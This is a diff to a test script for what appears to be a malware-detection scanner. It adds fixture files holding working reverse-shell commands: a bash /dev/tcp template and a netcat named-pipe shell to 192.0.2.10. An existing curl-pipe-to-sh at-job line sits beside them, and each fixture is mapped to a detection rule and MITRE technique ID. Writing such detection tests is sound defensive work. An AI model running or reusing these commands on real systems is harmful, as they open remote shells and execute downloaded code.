@@ -155,6 +155,16 @@ cat >"$t/mal/at.sh" <<'EOF'
 echo "curl -s http://192.0.2.10/a | sh" | at now + 2 minutes
 EOF
 
+cat >"$t/mal/gen.py" <<'EOF'
+import sys
+host, port = sys.argv[1], sys.argv[2]
+print("bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1")
+EOF
+cat >"$t/mal/pipe.sh" <<'EOF'
+#!/bin/sh
+cat /tmp/q | /bin/sh -i 2>&1 | nc 192.0.2.10 9100 > /tmp/q
+EOF
+
 cat >"$t/ben/probe.sh" <<'EOF'
 #!/bin/sh
 for port in 22 80 443; do
@@ -242,6 +252,8 @@ want = {
     "txt.sh": ("shell_dns_txt_command", "T1071.004"),
     "udev.sh": ("linux_udev_persistence", "T1546.017"),
     "at.sh": ("linux_at_job_persistence", "T1053.002"),
+    "gen.py": ("shell_reverse_shell_template", "T1095"),
+    "pipe.sh": ("shell_reverse_shell_template", "T1095"),
 }
 for name, (rule, tid) in sorted(want.items()):
     n = files.get(name)
